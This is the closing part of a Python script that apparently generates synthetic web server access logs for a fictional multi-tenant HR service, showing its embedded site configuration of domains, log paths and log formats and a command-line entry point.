     format: 'escape=json {"time":"$time_iso8601","peer":"$remote_addr","xff":"$http_x_forwarded_for","host":"$host","user":"$remote_user","req":"$request","status":"$status","bytes":"$body_bytes_sent","rt":"$request_time","ref":"$http_referer","ua":"$http_user_agent","sid":"$cookie_ksid"}'}
  - {id: "t-{tenant}", group: dedicated, domains: ["{tenant}.komorebi-hr.example"], logs: ["dedicated/{tenant}/access.log*"], franchise: "{tenant}",
     roster: context/roster.csv, session_cookie: ksid, resources: tenant, hours: always,
     format: '%v %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %D %{ksid}C'}
  - {id: console, group: main, domains: [ops.komorebi-hr.example], logs: ["console/ops-access.log*"], resources: console, hours: business,
     format: '%v:%p %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"'}
  - {id: api, group: main, domains: [api.komorebi-hr.example], logs: ["api/api_access.ltsv*"], resources: api, hours: always,
     format: "time:[$time_local]\thost:$remote_addr\tvhost:$host\tuser:$remote_user\treq:$request\tstatus:$status\tsize:$body_bytes_sent\treqtime:$request_time\tua:$http_user_agent"}
  - {id: www, group: main, domains: [www.komorebi-hr.example], logs: ["www/alb-*"], format: auto, resources: public, hours: always}
"""


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--days", type=int, default=35)
    ap.add_argument("--out", type=Path, required=True)
    a = ap.parse_args()
    World(a.seed, a.days).run(a.out)


if __name__ == "__main__":
    main()
